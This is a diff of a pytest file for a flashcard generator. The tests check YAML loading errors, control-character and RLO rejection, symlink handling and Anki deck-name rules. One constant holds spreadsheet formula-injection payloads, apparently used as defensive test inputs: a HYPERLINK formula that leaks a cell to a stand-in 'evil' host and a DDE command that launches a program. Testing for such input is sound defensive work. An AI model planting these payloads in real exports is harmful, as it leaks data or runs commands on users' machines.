@@ -7,15 +7,21 @@ The property test over every output for generated hostile fact bases is in
 from __future__ import annotations
 
 import csv
+import errno
 import io
+import os
+from pathlib import Path
 
+import pytest
 from markdown_it import MarkdownIt
 
 from cardgen.bank.generate import build_bank
+from cardgen.errors import FactError
 from cardgen.emit.quizset import make_quizsets, to_csv, to_markdown
 from cardgen.factbase.loader import load
 from tests.conftest import build_file_tree
 
+GOOD = "definitions:\n  - {id: a, term: 용어, definition: 정의}\n"
 FORMULAS = ('=HYPERLINK("http://evil/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)")
 
 
@@ -76,3 +82,103 @@ def test_3_multi_line_values_and_entities_stay_text_in_markdown(tmp_path) -> Non
     assert not [t for t in tokens if t.type == "table_open"]
     html = MarkdownIt("commonmark").render(text)
     assert "<b>" not in html and "&amp;lt;b&amp;gt;굵게" in html
+
+
+# --- the loader: 4. control characters and NFC, 6. locations, 7. left-out files, 9. deck names ---------
+
+
+def _problems(tmp_path, files: dict[str, str | bytes]) -> list[str]:
+    root = build_file_tree(tmp_path / "facts", files)
+    with pytest.raises(FactError) as info:
+        load(root)
+    return [str(p).removeprefix(str(root) + "/") for p in info.value.problems]
+
+
+@pytest.mark.parametrize(
+    ("escape", "shown"),
+    [("\\0", "\\x00"), ("\\e", "\\x1b"), ("\\x1f", "\\x1f"), ("\\x9b", "\\x9b"), ("\\u202e", "\\u202e"), ("\\r", "\\x0d")],
+)
+def test_4_control_characters_in_text_are_errors(tmp_path, escape, shown) -> None:
+    text = f'definitions:\n  - id: a\n    term: "용{escape}어"\n    definition: 정의\n'
+    assert _problems(tmp_path, {"a.yaml": text}) == [f"a.yaml:3: 'term' holds the control character(s) {shown}; remove them"]
+
+
+def test_4_text_written_with_escapes_is_nfc_too(tmp_path) -> None:
+    base = load(build_file_tree(tmp_path, {"a.yaml": 'definitions:\n  - {id: a, term: "\\u1100\\u1161", definition: 정의}\n'}))
+    assert base.definitions[0].term == "가"
+
+
+@pytest.mark.parametrize(
+    ("files", "expected"),
+    [
+        ({"a.yaml": 'definitions:\n  - {id: a, term: "unclosed\n'},
+         ["a.yaml:2: YAML syntax error: a quoted text never ends (the file ends first); close it on this line"]),
+        ({"a.yaml": b"definitions:\n  - id: a\n    term: x\x00\n"}, ["a.yaml:3: control character \\x00; remove it"]),
+        ({"a.yaml": "definitions:\n  - id: a\n    term: x\n    definition: y\n    details:\n      - (예: ../secret)\n"},
+         ["a.yaml:6: 'details' must be text, not a mapping; a ': ' inside text starts a mapping, so put the text in quotes"]),
+        ({"a.yaml": "definitions:\n  - id: a\n    term: x\n    definition: y\n    details: [(읽기 전용, 공유)]\n"},
+         ["a.yaml:5: 'details' is cut at a ',' ('(읽기 전용'): inside [...] or {...} a comma ends text; quote the text",
+          "a.yaml:5: 'details' is cut at a ',' ('공유)'): inside [...] or {...} a comma ends text; quote the text"]),
+        ({"a.yaml": GOOD + "pros_cons:\n  - {id: p, concept: a, pros: [{text: 빠름, compare: {concept: a, text: 읽기 전용, 공유}}]}\n"},
+         ["a.yaml:4: unknown key '공유' in 'compare'; expected one of: concept, text; "
+          "a ',' inside {...} ends a value: if '공유' belongs to the text before, quote it"]),
+    ],
+    ids=["unclosed quote", "raw NUL", "colon in text", "comma in a flow list", "comma in a flow mapping"],
+)
+def test_6_mistakes_are_reported_where_they_are_with_a_hint(tmp_path, files, expected) -> None:
+    assert _problems(tmp_path, files) == expected
+
+
+def test_7_every_yaml_file_is_read_whatever_the_case_of_its_suffix(tmp_path) -> None:
+    root = build_file_tree(tmp_path, {"a.yaml": GOOD, "b.YAML": GOOD.replace("id: a", "id: b"), "c.Yml": "deck: c\n"})
+    assert sorted(Path(f).name for f in load(root).files) == ["a.yaml", "b.YAML", "c.Yml"]
+
+
+def test_7_linked_folders_are_read_once_and_broken_links_are_errors(tmp_path) -> None:
+    root = build_file_tree(tmp_path / "facts", {"a.yaml": GOOD})
+    build_file_tree(tmp_path / "shared", {"s.yaml": GOOD.replace("id: a", "id: s")})
+    (root / "shared").symlink_to(tmp_path / "shared")
+    (root / "again").symlink_to(tmp_path / "shared")
+    assert sorted(f.id for f in load(root).facts()) == ["a", "s"]
+    (root / "dangling.yaml").symlink_to(tmp_path / "nowhere.yaml")
+    (root / "loop").symlink_to(root)
+    (tmp_path / "self").symlink_to("self")
+    (root / "looping.yaml").symlink_to(tmp_path / "self")
+    assert _problems(tmp_path, {}) == [
+        "dangling.yaml: a symbolic link that points to nothing; fix or remove it",
+        "loop: a symbolic link to a folder it is in (a loop); remove it",
+        "looping.yaml: a symbolic link that loops; fix or remove it",
+    ]
+
+
+def test_7_an_unreadable_folder_is_an_error(tmp_path, monkeypatch) -> None:
+    root = build_file_tree(tmp_path / "facts", {"a.yaml": GOOD, "locked/b.yaml": GOOD.replace("id: a", "id: b")})
+    real_scandir = os.scandir
+
+    def scandir(path):  # the tests may run as root, whom no permission stops
+        if Path(path).name == "locked":
+            raise PermissionError(errno.EACCES, "Permission denied")
+        return real_scandir(path)
+
+    monkeypatch.setattr(os, "scandir", scandir)
+    assert _problems(tmp_path, {}) == [
+        "locked: cannot read this folder (Permission denied); the facts in it would be left out"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("files", "expected"),
+    [
+        ({"a.yaml": "deck: Default\n" + GOOD}, ["a.yaml:1: deck 'Default' would go into Anki's own Default deck; choose another name"]),
+        ({"default.yaml": GOOD}, ["default.yaml:1: deck 'default' would go into Anki's own Default deck; choose another name"]),
+        ({"a.yaml": "deck: '::a'\n" + GOOD}, ["a.yaml:1: deck '::a' has an empty level (Anki would make a blank deck); write each level between '::'"]),
+        ({"a.yaml": "deck: 'a::::b'\n" + GOOD}, ["a.yaml:1: deck 'a::::b' has an empty level (Anki would make a blank deck); write each level between '::'"]),
+        ({"a.yaml": 'deck: "x\\u202eCON"\n' + GOOD}, ["a.yaml:1: 'deck' holds the control character(s) \\u202e; remove them"]),
+        ({"a.yaml": "deck: Docker::Net\n" + GOOD, "b.yaml": "deck: docker::Other\n" + GOOD.replace("id: a", "id: b")},
+         ["b.yaml:1: deck 'docker' differs from 'Docker' (at {root}/a.yaml:1) only in case; spell both alike"]),
+    ],
+    ids=["Default", "default file name", "empty first level", "empty middle level", "RLO", "case across files"],
+)
+def test_9_deck_names_anki_would_merge_or_blank_are_errors(tmp_path, files, expected) -> None:
+    root = tmp_path / "facts"
+    assert _problems(tmp_path, files) == [e.replace("{root}", str(root)) for e in expected]
